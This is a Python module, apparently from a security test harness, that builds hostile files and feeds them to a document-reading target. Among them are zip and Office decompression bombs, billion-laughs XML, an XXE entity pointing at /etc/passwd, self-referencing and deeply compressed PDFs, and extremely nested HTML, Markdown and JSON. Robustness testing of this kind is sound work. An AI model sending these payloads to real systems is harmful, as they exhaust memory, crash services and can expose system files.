"""Files whose reading is meant never to end, or to fill the memory."""

from __future__ import annotations

import asyncio
import io
import zipfile
import zlib
from collections.abc import Mapping

from attacks.target import Target, read_file

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
KIND = "application/vnd.openxmlformats-officedocument"
MAIN = {
    "docx": ("word/document.xml", f"{KIND}.wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", f"{KIND}.spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", f"{KIND}.presentationml.presentation.main+xml"),
}
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def package(kind: str, parts: Mapping[str, str | bytes]) -> bytes:
    """An Office file of these parts, and of those that each must have."""
    name, called = MAIN[kind]
    types = (
        f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/{name}" ContentType="{called}"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{KIND}.spreadsheetml.'
        'worksheet+xml"/></Types>'
    )
    relations = (
        f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="a" '
        f'Type="{OFFICE}/officeDocument" Target="{name}"/></Relationships>'
    )
    return packed({"[Content_Types].xml": types, "_rels/.rels": relations, **parts})


def packed(parts: Mapping[str, str | bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return made.getvalue()


def workbook(sheet: str | bytes) -> bytes:
    return package(
        "xlsx",
        {
            "xl/workbook.xml": f'<workbook xmlns="{SHEET}" xmlns:r="{OFFICE}"><sheets>'
            '<sheet name="a" sheetId="1" r:id="a"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{PACKAGE}/relationships">'
            f'<Relationship Id="a" Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>'
            "</Relationships>",
            "xl/worksheets/sheet1.xml": sheet,
        },
    )


async def backtracking(target: Target) -> None:
    await read_file(target, "a.md", b"# a" + b" " * 20_000 + b"x\n")


async def wide_sheet(target: Target) -> None:
    """Two cells, at the two ends of the largest sheet there can be."""
    sheet = (
        f'<worksheet xmlns="{SHEET}"><sheetData><row r="1"><c r="A1"><v>1</v></c></row>'
        '<row r="1048576"><c r="XFD1048576"><v>2</v></c></row></sheetData></worksheet>'
    )
    await read_file(target, "a.xlsx", workbook(sheet))


async def bombs(target: Target) -> None:
    """A megabyte that unpacks to a gigabyte, in each kind of archive."""
    size = target.count(800) * 10**6
    spaces = b" " * size
    parts = {
        "a.docx": ("docx", "word/document.xml"),
        "a.pptx": ("pptx", "ppt/presentation.xml"),
    }
    for name, (kind, part) in parts.items():
        await read_file(target, name, package(kind, {part: spaces}))
    await read_file(target, "b.xlsx", workbook(spaces))
    for name, kind in (("a.epub", "epub+zip"), ("a.odt", "vnd.oasis.opendocument.text")):
        content = packed({"mimetype": f"application/{kind}", "content.xml": spaces})
        await read_file(target, name, content)
    entries = {f"word/{n}.xml": "" for n in range(target.count(100_000))}
    await read_file(target, "c.docx", package("docx", {"word/document.xml": "<a/>", **entries}))


async def entities(target: Target) -> None:
    """XML whose entities grow tenfold ten times, or that lead to files."""
    grown = "".join(
        f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' if n else '<!ENTITY e0 "lol">' for n in range(10)
    )
    for inner in (grown, '<!ENTITY e9 SYSTEM "file:///etc/passwd">'):
        text = (
            f'<?xml version="1.0"?><!DOCTYPE d [{inner}]><w:document xmlns:w="{WORD}"><w:body>'
            "<w:p><w:r><w:t>&e9;</w:t></w:r></w:p></w:body></w:document>"
        )
        await read_file(target, "a.docx", package("docx", {"word/document.xml": text}))


async def endless_pdfs(target: Target) -> None:
    """Pages that lead to themselves, streams in streams, a stream of a gigabyte."""
    deep = zlib.compress(b" " * target.count(500_000_000))
    for _ in range(3):
        deep = zlib.compress(deep)
    catalogue = b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    page = b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>endobj\n"
    tail = b"trailer<</Root 1 0 R>>\n%%EOF"
    filters = b"/Filter[" + b"/FlateDecode" * 4 + b"]/Length " + str(len(deep)).encode()
    for middle in (
        b"2 0 obj<</Type/Pages/Kids[2 0 R]/Count 9>>endobj\n",
        b"2 0 obj<</Type/Pages/Kids[" + b"3 0 R " * target.count(300_000) + b"]>>endobj\n" + page,
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n" + page
        + b"4 0 obj<<" + filters + b">>stream\n" + deep + b"\nendstream endobj\n",
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n" + page
        + b"4 0 obj<</Length 4 0 R>>stream\nBT " + b"(a) Tj " * target.count(500_000)
        + b"endstream endobj\n",
        b"2 0 obj" + b"[" * target.count(1_000_000),
    ):  # fmt: skip
        await read_file(target, "a.pdf", b"%PDF-1.7\n" + catalogue + middle + tail)


async def nestings(target: Target) -> None:
    """HTML, Markdown and tables of a hundred thousand levels and columns."""
    many = target.count(100_000)
    for name, content in (
        ("a.html", b"<html>" + b"<div>" * many),
        ("b.html", b"<html>" + b"<table><tr><td>" * many),
        ("c.html", b"<html>" + b'<a style="display:none" hidden>' * many),
        ("a.md", b">" * many + b" a\n"),
        ("b.md", b"- " * many + b"a\n"),
        ("c.md", b"[" * many + b"](a" * many),
        ("d.md", b"|" * many + b"\n" + b"|-" * many + b"\n" + b"|" * many),
        ("a.csv", b'"' * many),
        ("b.csv", b"," * many + b"\n" + b"," * many),
        ("a.txt", b"\x00" * many),
        ("a.json", b"[" * many),
        ("a" * 250 + ".md", b"a"),
    ):
        await read_file(target, name, content)


async def deleted_amid(target: Target) -> None:
    """Twenty files that are deleted while they are read."""
    text = b"# a\n\nEverybody has thirty days of holiday.\n\n" * target.count(20_000)
    names = [f"{n}.{kind}" for n in range(5) for kind in ("md", "txt", "html", "csv")]
    await asyncio.gather(*(read_file(target, name, text, wait=False) for name in names))


ATTACKS = {
    "backtracking": (1, backtracking),
    "nestings": (1, nestings),
    "entities": (1, entities),
    "bombs": (1, bombs),
    "endless-pdfs": (1, endless_pdfs),
    "wide-sheet": (4, wide_sheet),
    "deleted-amid": (4, deleted_amid),
}
